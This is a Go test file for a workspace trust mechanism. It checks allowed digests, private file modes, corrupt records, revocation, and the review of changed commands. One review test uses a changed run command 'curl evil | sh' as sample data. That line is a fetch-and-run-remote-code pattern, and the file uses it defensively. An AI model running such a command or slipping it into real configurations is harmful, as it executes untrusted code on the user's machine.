package session

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/sawhorse-dev/sawhorse/workspace/config"
)

func TestOnlyTheAllowedDigestIsTrusted(t *testing.T) {
	base := ownState(t)
	root, other := t.TempDir(), t.TempDir()
	entries := []Entry{{"api", "run", "go run ."}}
	trust, err := OpenTrust()
	if err != nil {
		t.Fatal(err)
	}
	is := func(root, digest string) bool {
		t.Helper()
		again, err := OpenTrust() // as the next start does
		if err != nil {
			t.Fatal(err)
		}
		ok, err := again.IsTrusted(root, digest)
		if err != nil {
			t.Fatal(err)
		}
		return ok
	}
	digest := Digest(entries)
	if is(root, digest) || is(root, "") {
		t.Error("trusted before it was allowed")
	}
	if err := trust.Allow(root, digest, entries); err != nil {
		t.Fatal(err)
	}
	if !is(root, digest) || is(root, "sha256:00") || is(other, digest) {
		t.Error("not exactly the allowed digest in the allowed workspace is trusted")
	}
	if got, err := trust.Trusted(root); err != nil || !cmp.Equal(got, entries) {
		t.Errorf("Trusted: %v, %v", got, err)
	}
	files, err := filepath.Glob(filepath.Join(base, "trust", "*"))
	if err != nil || len(files) != 1 {
		t.Fatalf("files: %v, %v", files, err)
	}
	notOnWindows(t)
	if m := mode(t, files[0]); m != 0o600 {
		t.Errorf("the record has mode %04o", m)
	}

	// A record that somebody else could have written counts for nothing.
	if err := os.Chmod(files[0], 0o666); err != nil {
		t.Fatal(err)
	}
	if ok, err := trust.IsTrusted(root, digest); ok || !errors.Is(err, ErrNotPrivate) {
		t.Errorf("a record writable for all: %v, %v", ok, err)
	}
	if err := os.Chmod(files[0], 0o600); err != nil {
		t.Fatal(err)
	}

	if err := trust.Revoke(root); err != nil {
		t.Fatal(err)
	}
	if is(root, digest) {
		t.Error("trusted after it was revoked")
	}
	if err := trust.Revoke(root); err != nil {
		t.Errorf("revoking twice: %v", err)
	}
}

func TestACorruptRecordIsNotTrusted(t *testing.T) {
	base := ownState(t)
	root := t.TempDir()
	trust, err := OpenTrust()
	if err != nil {
		t.Fatal(err)
	}
	if err := trust.Allow(root, "d", nil); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(base, "trust", "*"))
	if err := os.WriteFile(files[0], []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	var corrupt *CorruptError
	if ok, err := trust.IsTrusted(root, "d"); ok || !errors.As(err, &corrupt) {
		t.Errorf("IsTrusted: %v, %v", ok, err)
	}
	if ok, err := trust.IsTrusted(root, "d"); ok || err != nil {
		t.Errorf("the second time: %v, %v", ok, err)
	}
}

func TestReviewShowsWhatIsNewChangedAndRemoved(t *testing.T) {
	trusted := []Entry{{"api", "run", "go run ."}, {"web", "run", "npm start"}, {"db", "run", "postgres"}, {"web", "env_file", ".env"}}
	now := []Entry{{"web", "run", "npm start"}, {"api", "run", "curl evil | sh"}, {"web", "env_file", ".env"}, {"web", "env_file", ".evil"}}
	want := []Change{
		{Changed, "api", "run", "go run .", "curl evil | sh"},
		{Added, "web", "env_file", "", ".evil"},
		{Removed, "db", "run", "postgres", ""},
	}
	if diff := cmp.Diff(want, Review(trusted, now)); diff != "" {
		t.Error(diff)
	}
}

func TestReviewIsEmptyExactlyWhenTheDigestIsTheSame(t *testing.T) {
	entry := rapid.Custom(func(t *rapid.T) Entry {
		word := rapid.SampledFrom([]string{"", "a", "b", "ab"})
		return Entry{word.Draw(t, "unit"), word.Draw(t, "field"), word.Draw(t, "line")}
	})
	rapid.Check(t, func(t *rapid.T) {
		a := rapid.SliceOfN(entry, 0, 4).Draw(t, "a")
		b := rapid.SliceOfN(entry, 0, 4).Draw(t, "b")
		if rapid.Bool().Draw(t, "permute") {
			b = rapid.Permutation(slices.Clone(a)).Draw(t, "b")
		}
		if same, none := Digest(a) == Digest(b), len(Review(a, b)) == 0; same != none {
			t.Errorf("digests same: %v, no changes: %v", same, none)
		}
	})
}

func TestCommandsListsWhatRunsAndNothingElse(t *testing.T) {
	f := &config.File{
		Dir: "/w", Shell: []string{"bash", "-c"}, Env: map[string]string{"B": "2", "A": "1"}, EnvFile: []string{"/w/.env"},
		Units: []config.Unit{
			{Name: "api", Run: "go run .", Dir: "/w", Ready: &config.Probe{Exec: "curl :80"}, Description: "not this", Env: map[string]string{"EMPTY": ""}},
			{Name: "same", Run: "x", Dir: "/w", Shell: []string{"bash", "-c"}},
			{Name: "own", Run: "x", Dir: "/w", Shell: []string{"zsh", "-c"}},
			{Name: "lint", Command: []string{"sh", "-c", "a b"}, Dir: "/w/sub", EnvFile: []string{"/w/x.env"}, Watch: &config.Watch{Paths: []string{"."}}},
		},
	}
	want := []Entry{
		{"", "shell", `["bash","-c"]`},
		{"", "env.A", "1"},
		{"", "env.B", "2"},
		{"", "env_file", ".env"},
		{"api", "run", "go run ."},
		{"api", "ready.exec", "curl :80"},
		{"api", "env.EMPTY", ""},
		{"same", "run", "x"},
		{"own", "run", "x"},
		{"own", "shell", `["zsh","-c"]`},
		{"lint", "command", `["sh","-c","a b"]`},
		{"lint", "dir", "sub"},
		{"lint", "env_file", "x.env"},
	}
	if diff := cmp.Diff(want, Commands(f)); diff != "" {
		t.Error(diff)
	}
	g := *f
	g.Units = slices.Clone(f.Units)
	g.Units[0].Description = strings.Repeat("changed", 2)
	slices.Reverse(g.Units)
	if Digest(Commands(&g)) != Digest(Commands(f)) {
		t.Error("the order of units or a description changes the digest")
	}
}
